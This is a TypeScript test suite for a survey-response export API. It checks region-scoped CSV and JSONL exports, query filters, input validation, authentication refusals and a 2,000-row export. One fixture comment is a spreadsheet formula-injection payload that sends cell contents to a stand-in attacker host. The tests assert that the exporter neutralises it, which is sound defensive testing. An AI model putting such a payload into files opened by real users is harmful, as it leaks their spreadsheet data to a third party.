/**
 * Exports over HTTP against the real FerretDB: a Nevada manager's CSV holds Nevada rows only,
 * query-string filters narrow like the GraphQL filter, formula-looking comments come out quoted,
 * bad parameters / no key / wrong role are refused, and 2,000 rows come out row-exact.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, TEST_ADMIN_KEY, waitFor, type TestApp } from '../helpers/app.js';

const NAME = 'exports';
const DAY = 86_400_000;
const IMPORT = `mutation($input: [ResponseInput!]!) { importResponses(input: $input) { accepted errors { index message } } }`;

let app: TestApp;
let base: string;
let managerKey: string;
let ingestKey: string;

function row(i: number, region: string, comment: string) {
  return {
    externalId: `${region}-${i}`,
    score: [2, 9, 6, 10, 0][i % 5],
    comment,
    respondedAt: new Date(Date.UTC(2026, 5, 1) - i * DAY).toISOString(),
    touchpoint: i % 2 ? 'renewal' : 'support_closed',
    attributes: [{ key: 'region', value: region }],
  };
}

async function get(path: string, key: string | null = TEST_ADMIN_KEY) {
  const res = await fetch(`${base}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
  return { status: res.status, type: res.headers.get('content-type') ?? '', body: await res.text() };
}

async function csv(path: string, key = TEST_ADMIN_KEY): Promise<Record<string, string>[]> {
  const res = await get(path, key);
  expect(res.status, res.body).toBe(200);
  expect(res.type).toMatch(/^text\/csv/);
  return parse<Record<string, string>>(res.body, { columns: true });
}

async function createKey(role: string, scope?: { key: string; value: string }[]): Promise<string> {
  const created = await app.gql(`mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { key } }`, {
    input: { name: `${role} key`, role, scope },
  });
  expect(created.errors).toBeUndefined();
  return created.data!.createApiKey.key as string;
}

beforeAll(async () => {
  app = await startTestApp(NAME, { roles: ['api', 'worker'] });
  base = app.url.replace(/\/graphql$/, '');
  const nevada = [
    'Billing was wrong and the invoice is confusing',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    'Support was quick and friendly',
    '+1 for the dark mode',
    '@everyone the support is slow',
  ].map((c, i) => row(i, 'Nevada', c));
  const texas = ['Armadillo billing is confusing', 'Armadillo support never answers', '-armadillo'].map((c, i) => row(i, 'Texas', c));
  const imported = await app.gql(IMPORT, { input: [...nevada, ...texas] }, { 'x-request-id': 'exports-import' });
  expect(imported.data!.importResponses).toEqual({ accepted: 8, errors: [] });
  await waitFor(async () => (await app.gql(`{ importProgress(requestId: "exports-import") { done } }`)).data!.importProgress.done === 8, {
    timeoutMs: 60_000,
    what: 'the import analysed',
  });
  managerKey = await createKey('MANAGER', [{ key: 'region', value: 'Nevada' }]);
  ingestKey = await createKey('INGEST');
});

afterAll(async () => {
  await app?.stop();
});

describe('GET /export/responses.csv', () => {
  it('gives a Nevada manager every Nevada row and no Texas row, even when the filter asks for Texas', async () => {
    const rows = await csv('/export/responses.csv', managerKey);
    expect(rows.map((r) => r.externalId).sort()).toEqual(['Nevada-0', 'Nevada-1', 'Nevada-2', 'Nevada-3', 'Nevada-4']);
    expect(JSON.stringify(rows)).not.toMatch(/armadillo/i);
    expect(await csv('/export/responses.csv?attribute.region=Texas', managerKey)).toEqual([]);
  });

  it('filters like the GraphQL filter: category, touchpoint, attribute, dates and search', async () => {
    const ids = async (query: string) => (await csv(`/export/responses.csv?${query}`)).map((r) => r.externalId).sort();
    expect(await ids('category=DETRACTOR')).toEqual(['Nevada-0', 'Nevada-2', 'Nevada-4', 'Texas-0', 'Texas-2']);
    expect(await ids('category=PASSIVE')).toEqual([]);
    expect(await ids('category=DETRACTOR&category=PROMOTER&attribute.region=Texas')).toEqual(['Texas-0', 'Texas-1', 'Texas-2']);
    expect(await ids('touchpoint=renewal&attribute.region=Nevada')).toEqual(['Nevada-1', 'Nevada-3']);
    expect(await ids('from=2026-05-30&to=2026-06-01T00:00:01Z')).toEqual([
      'Nevada-0',
      'Nevada-1',
      'Nevada-2',
      'Texas-0',
      'Texas-1',
      'Texas-2',
    ]);
    expect(await ids('search=armadillo&attribute.region=Nevada&attribute.region=Texas')).toEqual(['Texas-0', 'Texas-1', 'Texas-2']);
  });

  it('writes every column, latest stored first, with formula-looking text prefixed by a quote', async () => {
    // Like `responses`, newest id first: the last imported row comes first.
    const rows = (await csv('/export/responses.csv?attribute.region=Nevada')).reverse();
    expect(rows.map((r) => r.externalId)).toEqual(['Nevada-0', 'Nevada-1', 'Nevada-2', 'Nevada-3', 'Nevada-4']);
    const comments = rows.map((r) => r.comment);
    expect(comments[1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(comments[3]).toBe(`'+1 for the dark mode`);
    expect(comments[4]).toBe(`'@everyone the support is slow`);
    expect(comments[0]).toBe('Billing was wrong and the invoice is confusing');
    expect(rows[0]).toMatchObject({
      score: '2',
      category: 'DETRACTOR',
      touchpoint: 'support_closed',
      attributes: 'region=Nevada',
      analysisStatus: 'DONE',
      respondedAt: '2026-06-01T00:00:00.000Z',
    });
    const raw = (await get('/export/responses.csv?attribute.region=Texas')).body;
    expect(raw).toContain(`'-armadillo`);
  });

  it('refuses unknown and invalid parameters with 400 naming the parameter, no key with 401, a wrong role with 403', async () => {
    const bad = async (query: string) => {
      const res = await get(`/export/responses.csv?${query}`);
      expect(res.status, query).toBe(400);
      return JSON.parse(res.body).errors[0] as { message: string; extensions: { code: string; field: string } };
    };
    expect((await bad('regoin=Nevada')).extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'regoin' });
    expect((await bad('category=HAPPY')).extensions.field).toBe('category');
    expect((await bad('from=yesterday')).extensions.field).toBe('from');
    expect((await bad('analysisStatus=MAYBE')).extensions.field).toBe('analysisStatus');
    expect((await bad('search=a&search=b')).extensions.field).toBe('search');
    expect((await bad('from=2026-06-02&to=2026-06-01')).extensions.field).toBe('to');
    expect((await bad(`search=${'x'.repeat(201)}`)).extensions.field).toBe('search');
    expect((await bad('attribute.bad%20key=x')).extensions.field).toBe('attribute');

    for (const path of ['/export/responses.csv', '/export/responses.jsonl', '/export/themes.csv']) {
      const anonymous = await get(path, null);
      expect(anonymous.status, path).toBe(401);
      expect(JSON.parse(anonymous.body).errors[0].extensions.code).toBe('UNAUTHENTICATED');
      expect((await get(path, 'not-a-key')).status).toBe(401);
      const ingest = await get(path, ingestKey);
      expect(ingest.status, path).toBe(403);
      expect(JSON.parse(ingest.body).errors[0].extensions.code).toBe('FORBIDDEN');
    }
  });
});

describe('GET /export/responses.jsonl', () => {
  it('streams one JSON object per line, scoped like the CSV', async () => {
    const res = await get('/export/responses.jsonl', managerKey);
    expect(res.status).toBe(200);
    expect(res.type).toMatch(/^application\/x-ndjson/);
    const lines = res.body
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>)
      .reverse();
    expect(lines.map((l) => l.externalId)).toEqual(['Nevada-0', 'Nevada-1', 'Nevada-2', 'Nevada-3', 'Nevada-4']);
    // JSON is not opened by spreadsheets: the comment comes out exactly as it was sent.
    expect(lines[1]).toMatchObject({
      comment: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      attributes: [{ key: 'region', value: 'Nevada' }],
    });
  });
});

describe('GET /export/themes.csv', () => {
  it("equals the manager's themeBreakdown row for row", async () => {
    const rows = await csv('/export/themes.csv', managerKey);
    const manager = app.as(managerKey);
    const gql = await manager(
      `{ themeBreakdown { theme { key label } mentions share nps promoters passives detractors averageScore impact } }`,
    );
    expect(gql.errors).toBeUndefined();
    const expected = gql.data!.themeBreakdown as {
      theme: { key: string; label: string };
      mentions: number;
      share: number;
      nps: number | null;
      promoters: number;
      passives: number;
      detractors: number;
    }[];
    expect(expected.length).toBeGreaterThan(0);
    expect(rows.map((r) => r.themeKey)).toEqual(expected.map((t) => t.theme.key));
    for (const [i, t] of expected.entries()) {
      expect(rows[i]).toMatchObject({
        themeLabel: t.theme.label,
        mentions: String(t.mentions),
        share: String(t.share),
        nps: t.nps === null ? '' : String(t.nps),
        promoters: String(t.promoters),
        passives: String(t.passives),
        detractors: String(t.detractors),
      });
    }
    const texasThemes = await csv('/export/themes.csv?attribute.region=Texas', managerKey);
    expect(texasThemes).toEqual([]);
  });
});

describe('a larger export', () => {
  it('streams 2,000 rows row-exact, newest first', async () => {
    const rows = Array.from({ length: 2_000 }, (_, i) => ({
      ...row(i, 'Ohio', i % 7 === 0 ? `=SUM(A${i})` : `comment, "quoted" ${i}\nsecond line`),
      respondedAt: new Date(Date.UTC(2026, 0, 1) + i * 60_000).toISOString(),
    }));
    for (let i = 0; i < rows.length; i += 1_000) {
      const imported = await app.gql(IMPORT, { input: rows.slice(i, i + 1_000) });
      expect(imported.data!.importResponses.accepted).toBe(1_000);
    }
    const exported = await csv('/export/responses.csv?attribute.region=Ohio');
    expect(exported).toHaveLength(2_000);
    // Imported in order, so ids (the export's order, newest first) run opposite to the import.
    const expected = [...rows].reverse();
    exported.forEach((r, i) => {
      const sent = expected[i];
      expect({ externalId: r.externalId, score: r.score, comment: r.comment, respondedAt: r.respondedAt }).toEqual({
        externalId: sent.externalId,
        score: String(sent.score),
        comment: sent.comment.startsWith('=') ? `'${sent.comment}` : sent.comment,
        respondedAt: sent.respondedAt,
      });
    });
    expect(new Set(exported.map((r) => r.id)).size).toBe(2_000);
  });
});
